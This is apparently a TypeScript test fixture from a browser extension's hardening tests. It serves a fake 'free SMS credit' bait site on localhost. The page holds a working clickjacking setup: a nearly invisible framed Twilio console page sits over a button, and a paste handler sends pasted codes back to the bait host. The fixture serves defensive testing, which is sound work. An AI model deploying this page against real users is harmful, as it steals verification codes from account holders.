import { createServer, type Server } from 'node:https';
import type { IncomingMessage, ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { throwawayCertificate, type Certificate } from '../cert.ts';

/**
 * A site that is not Twilio's, for the attacks the console overlay must not fall for: a "free SMS
 * credit" page that frames a Twilio console page almost transparently (opacity 0.0001) over its own
 * "Copy your code" button, so that the admin's click lands on whatever the framed page shows there,
 * and asks for the code to be pasted into its form, which posts whatever it gets to the site. What
 * the hardening review built by hand to show the attack, served like the other stand-ins: HTTPS on
 * 127.0.0.1, reached under its host name through Chromium's host resolver rules.
 */
export const BAIT_HOST = 'sms-credits.example';

export interface BaitSite {
  port: number;
  host: typeof BAIT_HOST;
  /** For Chromium's --host-resolver-rules, in front of the other stand-ins' rules. */
  hostResolverRule: string;
  /** The bait page, framing `framedUrl` over its button. */
  claimUrl(framedUrl: string): string;
  /** Every text the page's paste box received and sent home. */
  collected: string[];
  close(): Promise<void>;
}

const escapeHtml = (text: string) =>
  text.replace(/[&<>"']/g, (c) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;' })[c]!);

/**
 * The frame sits where a console page's bottom-right corner shows the extension's box, exactly over
 * the bait button, and is sized like a small window so that box fits inside it.
 */
function claimPage(framedUrl: string): string {
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Claim your free SMS credit</title><link rel="icon" href="data:,">
<style>
body { margin: 0; font: 16px/1.5 system-ui, sans-serif; color: #1d2333; background: #fdf6e3; }
main { padding: 40px; max-width: 640px; }
#code { display: block; width: 320px; height: 60px; margin-top: 8px; }
#claim { position: fixed; right: 24px; bottom: 24px; padding: 14px 28px; font-size: 18px; background: #e9283d; color: #fff; border: 0; border-radius: 6px; }
iframe { position: fixed; right: 0; bottom: 0; width: 460px; height: 300px; border: 0; opacity: 0.0001; z-index: 2; }
</style></head>
<body>
<main>
  <h1>$50 of SMS credit for your agency</h1>
  <p>Click <strong>Copy your code</strong> at the bottom right, then paste it here:</p>
  <label>Your code <textarea id="code"></textarea></label>
</main>
<button id="claim" type="button">Copy your code</button>
<iframe src="${escapeHtml(framedUrl)}" title="offer"></iframe>
<script>
document.getElementById('code').addEventListener('paste', (event) => {
  const text = event.clipboardData.getData('text');
  fetch('/collect', { method: 'POST', body: text });
});
</script>
</body></html>`;
}

export async function startBaitSite(options: { cert?: Certificate } = {}): Promise<BaitSite> {
  const collected: string[] = [];

  async function handle(request: IncomingMessage, response: ServerResponse): Promise<void> {
    const url = new URL(request.url ?? '/', `https://${BAIT_HOST}`);
    if (url.pathname === '/claim' && request.method === 'GET') {
      response.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' });
      response.end(claimPage(url.searchParams.get('frame') ?? 'about:blank'));
      return;
    }
    if (url.pathname === '/collect' && request.method === 'POST') {
      const chunks: Buffer[] = [];
      for await (const chunk of request as AsyncIterable<Buffer>) chunks.push(chunk);
      collected.push(Buffer.concat(chunks).toString('utf8').slice(0, 10_000));
      response.writeHead(204);
      response.end();
      return;
    }
    response.writeHead(404, { 'content-type': 'text/plain; charset=utf-8' });
    response.end('Not found');
  }

  const cert = options.cert ?? throwawayCertificate();
  const server: Server = createServer({ key: cert.key, cert: cert.cert }, (request, response) => {
    handle(request, response).catch(() => response.destroy());
  });
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(0, '127.0.0.1', () => resolve());
  });
  const port = (server.address() as AddressInfo).port;
  return {
    port,
    host: BAIT_HOST,
    hostResolverRule: `MAP ${BAIT_HOST} 127.0.0.1:${port}`,
    claimUrl: (framedUrl) => `https://${BAIT_HOST}/claim?frame=${encodeURIComponent(framedUrl)}`,
    collected,
    close: () =>
      new Promise<void>((resolve, reject) => {
        server.closeAllConnections();
        server.close((error) => (error ? reject(error) : resolve()));
      }),
  };
}
